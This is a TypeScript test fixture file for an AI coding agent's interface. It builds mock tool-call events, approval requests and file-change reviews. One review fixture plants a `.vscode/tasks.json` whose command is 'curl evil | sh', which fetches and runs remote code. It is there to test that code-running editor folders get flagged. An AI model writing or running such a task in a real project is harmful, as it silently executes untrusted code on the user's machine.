// Agent events and requests the tests share, carrying what Rust sends with them: a call's
// title (written by its tool from its arguments) and look (how its tool says to show it).
import type { AgentEvent, ApprovalRequest, CallLook, Hunk, JsonValue, TitlePart } from "../bindings";

/** A title as Rust writes one: a string is words, `{ code }` is code (a command, a pattern). */
export function title(...parts: Array<string | { code: string }>): TitlePart[] {
  return parts.map((p) => (typeof p === "string" ? { text: p, code: false } : { text: p.code, code: true }));
}

/** How a call shows when its tool says nothing particular (Rust's `CallLook::default`): a card,
 * its output plain text. A skill's or a server's tool always shows so. */
export const PLAIN: CallLook = { quiet: false, output: "plain", ends_task: false };

/** How Rust's registry says Tandem's own tools' calls show (`.quiet()`, `.shows(…)` and
 * `Step::Finishes` in crates/tools/src/registry/). */
const LOOKS: Record<string, CallLook> = {
  read_file: { ...PLAIN, quiet: true },
  list_files: { ...PLAIN, quiet: true },
  web_fetch: { ...PLAIN, quiet: true },
  task_list: { ...PLAIN, quiet: true },
  search_codebase: { ...PLAIN, output: "search_hits" },
  run_command: { ...PLAIN, output: "terminal" },
  task_poll: { ...PLAIN, output: "terminal" },
  git_status: { ...PLAIN, output: "terminal" },
  git_diff: { ...PLAIN, output: "terminal" },
  git_log: { ...PLAIN, output: "terminal" },
  git_commit: { ...PLAIN, output: "terminal" },
  git_branch: { ...PLAIN, output: "terminal" },
  task_done: { ...PLAIN, ends_task: true },
};

/** The look Rust sends with a call of `name`. */
export function lookOf(name: string): CallLook {
  return LOOKS[name] ?? PLAIN;
}

/** A proposed call as Rust sends it: with its title (`shown`; a string is words alone) and its
 * tool's look. */
export function proposed(
  id: string,
  name: string,
  input: JsonValue,
  shown: TitlePart[] | string,
  look: CallLook = lookOf(name),
): AgentEvent {
  return { type: "tool_call_proposed", id, name, input, title: typeof shown === "string" ? title(shown) : shown, look };
}

/** The model writing a call, as Rust sends it: the tool's name in words with it. */
export function writing(name: string, words: string, chars: number): AgentEvent {
  return { type: "tool_call_writing", name, words, chars };
}

/** A command's approval request; its title is the command's, as run_command writes it. */
export function request(id: string, over: Partial<ApprovalRequest> = {}): ApprovalRequest {
  const command = over.command ?? "cargo test";
  return {
    id,
    tool: "run_command",
    input: { command: "cargo test" },
    reason: "running commands needs your approval in ask mode",
    rule: "ask-commands",
    suggestions: [],
    path: null,
    original: null,
    proposed: null,
    hunks: [],
    command: "cargo test",
    commands: ["cargo test"],
    confinement: { kind: "sandboxed", network: false, read_only: false },
    sandbox_denial: null,
    agent: null,
    title: command === null ? title("Run a command") : title("Run ", { code: command }),
    words: "Run a command",
    ...over,
  };
}

export function hunk(index: number, oldLine: string, newLine: string): Hunk {
  const line = 1 + index * 10;
  return {
    index,
    old_start: line,
    old_lines: 1,
    new_start: line,
    new_lines: 1,
    text: `@@ -${line},1 +${line},1 @@\n-${oldLine}\n+${newLine}\n`,
    removed: { start: line - 1, end: line },
    added: { start: line - 1, end: line },
  };
}

/** An edit of a 21-line file with three separate changes. */
export function editRequest(id: string): ApprovalRequest {
  const original = Array.from({ length: 21 }, (_, i) => `line ${i + 1}`);
  const proposed = original.slice();
  proposed[0] = "LINE 1";
  proposed[10] = "LINE 11";
  proposed[20] = "LINE 21";
  return request(id, {
    tool: "edit_file",
    input: { path: "src/lib.rs", old_string: "x", new_string: "y" },
    title: title("Edit src/lib.rs"),
    words: "Edit a file",
    reason: "editing files needs your approval in ask mode",
    rule: "ask-edits",
    path: "src/lib.rs",
    original: original.join("\n") + "\n",
    proposed: proposed.join("\n") + "\n",
    hunks: [hunk(0, "line 1", "LINE 1"), hunk(1, "line 11", "LINE 11"), hunk(2, "line 21", "LINE 21")],
    command: null,
    commands: [],
  });
}

/**
 * A command that ran and whose changes wait for review: a deletion first, then notes.txt with
 * two hunks (pieces 0 and 1), a new binary (piece 2), and `.vscode` (piece 3), which VS Code
 * would run.
 */
export function reviewRequest(id: string): ApprovalRequest {
  const original = Array.from({ length: 21 }, (_, i) => `line ${i + 1}`);
  const proposed = original.slice();
  proposed[0] = "LINE 1";
  proposed[10] = "LINE 11";
  return request(id, {
    input: { command: "make gen" },
    command: "make gen",
    commands: ["make gen"],
    title: title("Run ", { code: "make gen" }),
    reason: "The command ran in the sandbox and changed 4 files of your project.",
    rule: "review",
    review: {
      pieces: 5,
      ignored: [{ path: "build/", added: 12, modified: 0, deleted: 0, landed: true }],
      files: [
        { path: "docs/guide.md", change: "deleted", item: "file", class: { kind: "project" }, hunks: [], whole: 0, inside: [], more_inside: 0 },
        {
          path: "notes.txt",
          change: "modified",
          item: "file",
          class: { kind: "project" },
          lines: { added: 2, removed: 2 },
          original: original.join("\n") + "\n",
          proposed: proposed.join("\n") + "\n",
          hunks: [hunk(1, "line 1", "LINE 1"), hunk(2, "line 11", "LINE 11")],
          inside: [],
          more_inside: 0,
        },
        { path: "logo.png", change: "created", item: "file", class: { kind: "project" }, hunks: [], whole: 3, inside: [], more_inside: 0 },
        {
          path: ".vscode",
          change: "created",
          item: "folder",
          class: { kind: "runs_code", why: "editor" },
          hunks: [],
          whole: 4,
          inside: [{ path: ".vscode/tasks.json", text: '{"tasks": [{"command": "curl evil | sh"}]}\n' }],
          more_inside: 0,
        },
      ],
    },
  });
}
